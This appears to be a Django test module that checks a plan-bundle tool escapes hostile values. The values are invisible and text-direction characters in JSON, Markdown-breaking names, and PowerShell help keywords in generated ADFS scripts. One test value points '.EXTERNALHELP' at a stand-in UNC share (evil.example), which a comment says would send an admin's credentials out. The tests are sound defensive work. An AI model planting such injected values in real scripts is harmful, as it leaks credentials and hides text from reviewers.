"""Hostile values in the bundle's data files and Markdown: each value stays inside its string or
cell, is shown as it is, and nothing an editor or a viewer reads differently slips through."""
from __future__ import annotations

import json
import re

from django.core.exceptions import ValidationError
from django.urls import reverse

from tests.base import BaseTestCase, current_version, make_plan, plan_doc, set_draft
from wizard.plan.reader import load_plan
from wizard.plan.validators import bidi_control_in
from wizard.review import services
from wizard.review.bundlecheck import check_files, files_from_zip
from wizard.review.state import APPROVAL_FILE
from wizard.scripts.bundle import PLAN_FILE, VERIFICATION_FILE, Source, build_bundle

S01 = "s01-passive-extranet-mfa"
# What an editor, a diff or Python's str.splitlines takes for a line break although json.dumps leaves it
# raw, and what hides or reorders text for a reviewer (Trojan Source): the reader keeps them in x_ data.
UNUSUAL = ("\u2028", "\u2029", "\u0085", "\u202e", "\u2066", "\u200b", "\ufeff", "\u061c", "\x9b")
X_VALUE = "first" + "".join(f"{c}part{i}" for i, c in enumerate(UNUSUAL))
# The same without the text-direction controls, which a revision's message and comments refuse.
FREE_TEXT = "first" + "".join(f"{c}part{i}" for i, c in enumerate(UNUSUAL) if bidi_control_in(c) is None)


def _hostile_doc() -> dict:
    doc = plan_doc(S01)
    doc["x_note"] = X_VALUE
    doc["pools"][0]["x_tags"] = [X_VALUE, {"k": X_VALUE}]
    return doc


def _assert_plain_json(test: BaseTestCase, name: str, text: str) -> None:
    """The JSON text holds none of the unusual characters raw, so every reader sees its lines."""
    for ch in UNUSUAL:
        test.assertNotIn(ch, text, f"{name}: U+{ord(ch):04X} is written raw")
    test.assertEqual(text.count("\n"), len(text.splitlines()), f"{name}: an editor sees other lines")


class JsonOutputsTests(BaseTestCase):
    def test_the_bundles_plan_json_escapes_line_breaking_and_invisible_characters_and_keeps_the_value(self) -> None:
        plan, findings = load_plan(json.dumps(_hostile_doc()))
        self.assertIsNotNone(plan, [f for f in findings if f.severity == "error"])
        built = build_bundle(plan, source=Source.for_plan(plan))
        for name in (PLAN_FILE, VERIFICATION_FILE):
            with self.subTest(name):
                _assert_plain_json(self, name, built.texts[name])
        # Nothing is rewritten: the file reads back to the very same values.
        back = json.loads(built.texts[PLAN_FILE])
        self.assertEqual(back["x_note"], X_VALUE)
        self.assertEqual(back["pools"][0]["x_tags"], [X_VALUE, {"k": X_VALUE}])
        again, _ = load_plan(built.texts[PLAN_FILE])
        self.assertEqual(again, plan)

    def test_the_exported_plan_file_escapes_them_too(self) -> None:
        plan = make_plan(doc=_hostile_doc())
        self.client.force_login(self.alice)
        response = self.client.get(reverse("plan-export", args=[plan.code]))
        self.assertEqual(response.status_code, 200)
        text = response.content.decode("utf-8")
        _assert_plain_json(self, "export", text)
        self.assertEqual(json.loads(text)["x_note"], X_VALUE)

    def test_approval_json_escapes_them_in_the_revision_message_and_the_approvers_comment(self) -> None:
        plan = make_plan()
        # The text-direction controls are refused in a revision's message and a comment since they made a page
        # read differently from what is stored (tests/test_text_direction.py); the other characters are kept.
        with self.assertRaises(ValidationError):
            services.save_revision(plan, draft_version=current_version(plan), by=self.alice, message="r1 " + X_VALUE)
        revision = services.save_revision(plan, draft_version=current_version(plan), by=self.alice,
                                          message="r1 " + FREE_TEXT)
        services.submit_for_review(revision, by=self.alice)
        services.approve(revision, by=self.bob, comment="CAB-1 " + FREE_TEXT)
        files = files_from_zip(services.download_approved(revision, by=self.alice).content)
        text = files[APPROVAL_FILE].decode("utf-8")
        _assert_plain_json(self, APPROVAL_FILE, text)
        record = json.loads(text)
        self.assertEqual((record["revision_message"], record["comment"]), ("r1 " + FREE_TEXT, "CAB-1 " + FREE_TEXT))
        # The bundle check expects the very same bytes.
        verdict = check_files(files)
        self.assertTrue(verdict.genuine, verdict.differences)

    def test_the_plan_diff_shows_the_value_as_the_plan_file_writes_it(self) -> None:
        plan = make_plan()
        services.save_revision(plan, draft_version=current_version(plan), by=self.alice, message="r1")
        set_draft(plan, _hostile_doc())
        self.client.force_login(self.alice)
        response = self.client.get(reverse("plan-diff", args=[plan.code]))
        self.assertContains(response, 'data-path="x_note"')
        page = response.content.decode("utf-8")
        for ch in UNUSUAL:
            self.assertNotIn(ch, page, f"U+{ord(ch):04X} is shown raw")
        self.assertIn("first\\u2028part0\\u2029part1", page)


def _unescaped(line: str, char: str) -> list[int]:
    """Return the offsets of `char` in `line` that no backslash escapes."""
    out, i = [], 0
    while i < len(line):
        if line[i] == "\\":
            i += 2
            continue
        if line[i] == char:
            out.append(i)
        i += 1
    return out


class MarkdownOutputsTests(BaseTestCase):
    def test_a_name_ending_in_hashes_or_holding_tildes_is_shown_whole_in_every_markdown_heading(self) -> None:
        # CommonMark drops a heading's closing " ##"; GFM strikes ~~text~~ through.
        name = "Wave 2 ~~old~~ ##"
        plan, findings = load_plan(json.dumps(plan_doc(S01, name=name)))
        self.assertIsNotNone(plan, [f for f in findings if f.severity == "error"])
        built = build_bundle(plan, source=Source.for_plan(plan))
        markdown = {n: t for n, t in built.texts.items() if n.endswith(".md")}
        self.assertIn("runbook.md", markdown)
        for file_name, text in markdown.items():
            titles = [line for line in text.split("\n") if "Wave 2" in line]
            self.assertTrue(titles, file_name)
            for line in titles:
                with self.subTest(file_name, line=line):
                    body = line.lstrip("#") if line.startswith("#") else line
                    self.assertEqual(_unescaped(body, "#"), [])
                    self.assertEqual(_unescaped(line, "~"), [])


# Comment-based help reads a line that starts with a dot and a keyword as that keyword, wherever it stands in
# the script's first comment block: `.EXTERNALHELP <path>` makes Get-Help load its help from that path
# (a UNC path sends the admin's credentials there); `.NOTES` and the like move text into another section.
HELP_KEYWORD_NAMES = (".EXTERNALHELP \\\\evil.example\\share\\help.xml", ".FORWARDHELPTARGETNAME Remove-Item",
                      ".NOTES x")
HELP_LINE_RE = re.compile(r"^\s*\.(EXTERNALHELP|FORWARDHELPTARGETNAME|NOTES)\b", re.IGNORECASE | re.MULTILINE)


class CommentBasedHelpTests(BaseTestCase):
    def test_a_name_starting_with_a_help_keyword_never_starts_a_line_of_a_scripts_help(self) -> None:
        doc = plan_doc(S01)
        doc["pools"][0]["relying_parties"] = {"internal": HELP_KEYWORD_NAMES[0], "external": HELP_KEYWORD_NAMES[1]}
        doc["pools"][0]["site"] = HELP_KEYWORD_NAMES[2]
        plan, findings = load_plan(json.dumps(doc))
        self.assertIsNotNone(plan, [f for f in findings if f.severity == "error"])
        built = build_bundle(plan, source=Source.for_plan(plan))
        scripts = built.scripts
        self.assertIn("rollback-adfs.ps1", scripts)
        for name, text in scripts.items():
            with self.subTest(name):
                self.assertEqual(HELP_LINE_RE.findall(text), [])
        # The names are still listed, whole.
        for trust in HELP_KEYWORD_NAMES[:2]:
            self.assertIn(trust, scripts["rollback-adfs.ps1"])
